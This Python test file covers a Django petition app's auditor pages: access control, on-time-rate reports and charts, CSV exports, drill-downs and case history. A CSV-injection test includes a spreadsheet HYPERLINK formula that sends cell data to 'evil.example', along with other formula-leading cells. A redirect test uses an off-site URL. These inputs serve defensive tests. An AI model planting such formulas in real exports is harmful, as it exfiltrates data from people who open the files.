"""Auditor pages: the report, its charts and CSV, drill-down, verified history."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.utils import timezone

from workflow import services, sweeps

MONDAY = datetime(2026, 3, 2, 2, 0, tzinfo=UTC)
MARCH = {"start_on": "2026-03-01", "end_on": "2026-03-31"}
AUDIT_URLS = [
    "/audit/",
    "/audit/report-agency.csv",
    "/audit/report-trend.csv",
    "/audit/petitions/?start_on=2026-03-01&end_on=2026-03-31&measure=received",
]


@pytest.fixture
def march(submit, routed_to_a, handler_a):
    """One petition answered on time, one answered after its deadline was breached."""
    with time_machine.travel(MONDAY, tick=False):
        quick, late = submit(title="Nhanh"), submit(title="Muộn")
        for petition in (quick, late):
            services.accept_petition(petition_id=petition.pk, actor=handler_a)
    with time_machine.travel(MONDAY + timedelta(days=3), tick=False):
        services.answer_petition(petition_id=quick.pk, actor=handler_a, text="Xong")
    sweeps.sweep(now=MONDAY + timedelta(days=25))
    with time_machine.travel(MONDAY + timedelta(days=26), tick=False):
        services.answer_petition(petition_id=late.pk, actor=handler_a, text="Muộn")
    return quick, late


@pytest.mark.parametrize("path", AUDIT_URLS)
def test_anonymous_visitor_is_sent_to_login(client, path):
    assert client.get(path)["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("path", AUDIT_URLS)
@pytest.mark.parametrize("name", ["handler_a", "supervisor_a", "coordinator"])
def test_staff_who_are_not_auditors_get_404(request, db, staff_client, name, path):
    assert staff_client(request.getfixturevalue(name)).get(path).status_code == 404


def test_handler_cannot_open_the_audit_history_of_a_case(
    march, handler_a, staff_client
):
    quick, _late = march
    response = staff_client(handler_a).get(f"/audit/petitions/{quick.tracking_code}/")
    assert response.status_code == 404


def test_report_shows_the_on_time_rate_like_the_seed_article(
    march, auditor, staff_client
):
    page = staff_client(auditor).get("/audit/", MARCH).content.decode()
    assert "Agency so-tnmt-lang-son" in page
    assert "50,00\u00a0%" in page  # one of two answered on time
    assert '<svg xmlns="http://www.w3.org/2000/svg"' in page
    assert 'role="img"' in page and "<desc" in page


def test_report_in_english_uses_a_decimal_point(march, auditor, staff_client):
    client = staff_client(auditor)
    client.cookies["django_language"] = "en"
    page = client.get("/audit/", MARCH, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "50.00\u00a0%" in page


def test_report_defaults_to_the_last_90_days(march, auditor, staff_client):
    with time_machine.travel(MONDAY + timedelta(days=30), tick=False):
        page = staff_client(auditor).get("/audit/").content.decode()
    # 1 April 2026 and 90 days before it.
    assert "01/01/2026" in page and "01/04/2026" in page


def test_an_impossible_period_is_explained(auditor, staff_client):
    response = staff_client(auditor).get(
        "/audit/", {"start_on": "2026-04-01", "end_on": "2026-03-01"}
    )
    assert "Ngày bắt đầu phải trước ngày kết thúc." in response.content.decode()


def read_csv(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_csv_is_utf8_with_bom_and_names_the_period(march, auditor, staff_client):
    response = staff_client(auditor).get("/audit/report-agency.csv", MARCH)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        'filename="pakn-agency-2026-03-01_2026-03-31.csv"'
        in response["Content-Disposition"]
    )
    header, row, total = read_csv(response)
    assert header[0] == "Đơn vị"
    assert row[:5] == ["Agency so-tnmt-lang-son", "2", "2", "1", "50.00"]
    assert total[0] == "Tổng cộng"


def test_trend_csv_lists_every_week(march, auditor, staff_client):
    rows = read_csv(staff_client(auditor).get("/audit/report-trend.csv", MARCH))
    assert rows[1][0] == "2026-W09" and len(rows) == 7
    assert sum(int(r[2]) for r in rows[1:]) == 1


def test_drill_down_lists_the_petitions_and_exports_them(march, auditor, staff_client):
    quick, late = march
    query = {**MARCH, "measure": "on_time", "agency": str(quick.agency_id)}
    client = staff_client(auditor)
    page = client.get("/audit/petitions/", query).content.decode()
    assert quick.tracking_code in page and late.tracking_code not in page
    rows = read_csv(client.get("/audit/petitions/", {**query, "format": "csv"}))
    assert [r[0] for r in rows[1:]] == [quick.tracking_code]


def test_drill_down_with_a_bad_query_is_404(auditor, staff_client):
    assert staff_client(auditor).get("/audit/petitions/?measure=x").status_code == 404


def test_case_history_shows_that_the_chain_is_intact(march, auditor, staff_client):
    _quick, late = march
    page = staff_client(auditor).get(f"/audit/petitions/{late.tracking_code}/")
    text = page.content.decode()
    assert "Toàn vẹn" in text
    assert "Quá hạn" in text  # the breach the sweep recorded is in the history


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
    submit, routed_to_a, auditor, staff_client, agency_a
):
    agency_a.name = "@SUM(1+1) Sở Tài nguyên"
    agency_a.save()
    titles = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+84 giá trị",
        "-2+3 đường Lê Lợi",
        "Đường liên xã xuống cấp",
    ]
    for title in titles:
        submit(title=title)
    day = timezone.localdate()
    today = {"start_on": str(day - timedelta(days=1)), "end_on": str(day)}
    client = staff_client(auditor)

    rows = read_csv(
        client.get(
            "/audit/petitions/", {**today, "measure": "received", "format": "csv"}
        )
    )
    by_agency = read_csv(client.get("/audit/report-agency.csv", today))

    written = {row[1] for row in rows[1:]}
    # The OWASP rule: a leading apostrophe, the text otherwise as it was typed.
    assert written == {"'" + t for t in titles[:3]} | {titles[3]}
    assert all(row[3] == "'@SUM(1+1) Sở Tài nguyên" for row in rows[1:])
    assert by_agency[1][0] == "'@SUM(1+1) Sở Tài nguyên"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_the_apostrophe(start):
    from workflow.csv_export import safe_cell

    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Sở Tài chính") == "Sở Tài chính"
    assert safe_cell(-3) == -3  # our own numbers are not text


def test_the_audit_case_shows_the_text_the_answer_and_the_way_back(
    march, auditor, staff_client
):
    quick, _late = march
    client = staff_client(auditor)
    listing = "/audit/petitions/?start_on=2026-03-01&end_on=2026-03-31&measure=on_time"
    page = client.get(listing).content.decode()
    # The drill-down links each case with the way back to this very list.
    link = f"/audit/petitions/{quick.tracking_code}/?next="
    assert link in page
    response = client.get(link + "/audit/petitions/%3Fmeasure%3Don_time%26page%3D1")
    text = response.content.decode()
    assert quick.content in text
    # The answer is on the page, and in the history row of the answer step.
    assert 'id="answer-text">Xong<' in text
    assert "<summary>Nội dung trả lời</summary>Xong" in text
    assert 'href="/audit/petitions/?measure=on_time&amp;page=1" id="back"' in text
    # A link elsewhere is not followed back; the report is.
    away = client.get(link + "https://evil.example/").content.decode()
    assert 'href="/audit/" id="back"' in away
    assert "hết ngày" in text  # the case deadline as a last day


def test_chart_weeks_read_as_weeks_and_dates_not_iso_codes(
    march, auditor, staff_client
):
    page = staff_client(auditor).get("/audit/", MARCH).content.decode()
    chart = page[page.index('id="chart-trend-title"') :].split("</svg>")[0]
    # The axis names each week's Monday; each column's title says the week.
    assert ">23/02<" in chart and "Tuần 9 (từ 23/02/2026)" in chart
    assert "W09" not in chart and "W10" not in chart
